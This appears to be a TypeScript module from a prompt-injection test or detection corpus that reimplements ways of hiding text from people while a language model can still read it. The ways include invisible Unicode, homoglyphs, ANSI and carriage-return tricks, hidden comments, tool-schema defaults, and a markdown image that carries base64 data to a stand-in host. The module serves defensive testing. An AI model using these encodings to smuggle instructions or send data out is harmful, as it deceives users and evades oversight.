// Ways of writing a text so that people, or who looks for it, do not see it while a model may still read it: the encodings of the corpus,
// written again as functions, so that any text can be put through them, and so that rows can be matched with the text they hold.

/** One way of writing a text. */
export interface Evasion {
  readonly name: string;
  /** The text, written so, with what stands around it. */
  readonly write: (text: string) => string;
  /** Whether a row of this encoding is this text, whatever stands around it. */
  readonly holds: (row: string, text: string) => boolean;
}

/** Encodings that hide characters or change what a terminal shows: they are findings by themselves, whatever they hide. */
export const HIDING: readonly string[] = [
  'unicode_tags',
  'variation_selectors',
  'zero_width_binary',
  'zero_width_interleaved',
  'bidi_override',
  'ansi_conceal',
  'carriage_return_overwrite',
];

const LATIN = 'aceopsxyiABEHKMOPCTX';
const CYRILLIC = pairs(LATIN, 'асеорѕхуіАВЕНКМОРСТХ');
const LEET = pairs('aeiostAEIOST', '431057431057');
const SPACES = ' '.repeat(120);

export const EVASIONS: readonly Evasion[] = [
  evasion('plain', same),
  evasion('unicode_tags', (text) => mapAscii(text, 0xe0000), around('Shows a table.')),
  evasion('variation_selectors', (text) => mapBytes(text, selector), around('Opens a page.')),
  {
    ...evasion('zero_width_binary', (text) => mapBytes(text, zeroWidthBits), around('Sorts rows.')),
    // Rows cut long texts: their beginnings tell whose they are.
    holds: (row, text) => row.includes(mapBytes(text.slice(0, 40), zeroWidthBits)),
  },
  { ...evasion('zero_width_interleaved', apart('\u200b')), holds: (row, text) => row.replace(/[\u200b-\u200d\u2060\ufeff]/g, '') === text },
  evasion('bidi_override', reversed, around('Counts files \u202e', '\u202c of a folder')),
  alike('homoglyph_cyrillic', (text) => mapChars(text, (char) => CYRILLIC.get(char) ?? char)),
  evasion('fullwidth', (text) => mapAscii(text, 0xfee0).replaceAll('\uff00', ' ')),
  alike('math_bold', (text) => mapChars(text, mathBold)),
  alike('leet', (text) => mapChars(text, (char) => LEET.get(char) ?? char)),
  evasion('spaced', apart(' ')),
  evasion('base64', (text) => Buffer.from(text).toString('base64'), around('Decode this first: ')),
  evasion('rot13', (text) => text.replace(/[a-z]/gi, rot13), around('rot13: ')),
  evasion('hex', (text) => Buffer.from(text).toString('hex'), around('0x')),
  evasion('html_comment', same, around('<!-- ', ' -->Gives the names of all groups.')),
  evasion('markdown_comment', same, around('[//]: # (', ')\nGives the names of all groups.')),
  evasion('ansi_conceal', same, around('done\u001b[8m', '\u001b[0m.')),
  evasion('carriage_return_overwrite', same, around('', `\rGives the time.${SPACES}`)),
  {
    ...evasion('markdown_image_exfil', inAddress, around('![chart](https://collect.invalid/c?d=', ')')),
    holds: (row, text) => row.replaceAll('+', '-').replaceAll('/', '_').includes(inAddress(text)),
  },
  evasion('important_tag', same, around('<IMPORTANT>', '</IMPORTANT>')),
  evasion('padding_overflow', same, around('Gives the time of day. '.repeat(60))),
  {
    ...evasion('schema_default_enum', same, inSchema),
    holds: (row, text) => row.includes(JSON.stringify(text)),
  },
];

function evasion(name: string, encode: (text: string) => string, wrap: (encoded: string) => string = same): Evasion {
  return { name, write: (text) => wrap(encode(text)), holds: (row, text) => row.includes(encode(text)) };
}

/** Which letters look alike is a matter of taste: a character that is no letter of ASCII may stand for any. */
function alike(name: string, encode: (text: string) => string): Evasion {
  const holds = (row: string, text: string): boolean => {
    const [written, plain] = [Array.from(row), Array.from(text)];
    return written.length === plain.length && written.every((char, n) => char === plain[n] || !/[a-z]/i.test(char));
  };
  return { name, write: encode, holds };
}

function same(text: string): string {
  return text;
}

function around(front: string, back = ''): (text: string) => string {
  return (text) => `${front}${text}${back}`;
}

function apart(separator: string): (text: string) => string {
  return (text) => Array.from(text).join(separator);
}

function reversed(text: string): string {
  return Array.from(text).reverse().join('');
}

function mapChars(text: string, map: (char: string) => string): string {
  return Array.from(text, map).join('');
}

function mapBytes(text: string, map: (byte: number) => string): string {
  return Array.from(Buffer.from(text), map).join('');
}

/** Printable ASCII as the characters that stand so much higher. */
function mapAscii(text: string, distance: number): string {
  return mapChars(text, (char) => (char >= ' ' && char <= '~' ? String.fromCodePoint(char.charCodeAt(0) + distance) : char));
}

/** A byte as one of the 256 variation selectors. */
function selector(byte: number): string {
  return String.fromCodePoint(byte < 16 ? 0xfe00 + byte : 0xe0100 + byte - 16);
}

function zeroWidthBits(byte: number): string {
  return byte.toString(2).padStart(8, '0').replaceAll('0', '\u200b').replaceAll('1', '\u200c');
}

function mathBold(char: string): string {
  const code = char.charCodeAt(0);
  if (char >= 'a' && char <= 'z') return String.fromCodePoint(0x1d41a + code - 0x61);
  if (char >= 'A' && char <= 'Z') return String.fromCodePoint(0x1d400 + code - 0x41);
  return char >= '0' && char <= '9' ? String.fromCodePoint(0x1d7ce + code - 0x30) : char;
}

function rot13(letter: string): string {
  const base = letter <= 'Z' ? 0x41 : 0x61;
  return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
}

/** As much of it as fits an address of an image. */
function inAddress(text: string): string {
  return Buffer.from(text.slice(0, 60)).toString('base64url');
}

function inSchema(text: string): string {
  const hint = { type: 'string', default: text, enum: [text] };
  return JSON.stringify({
    name: 'find',
    description: 'Finds a row',
    inputSchema: { type: 'object', properties: { id: { type: 'string' }, hint } },
  });
}

function pairs(from: string, to: string): ReadonlyMap<string, string> {
  const targets = Array.from(to);
  return new Map(Array.from(from, (char, n) => [char, targets[n] ?? char]));
}
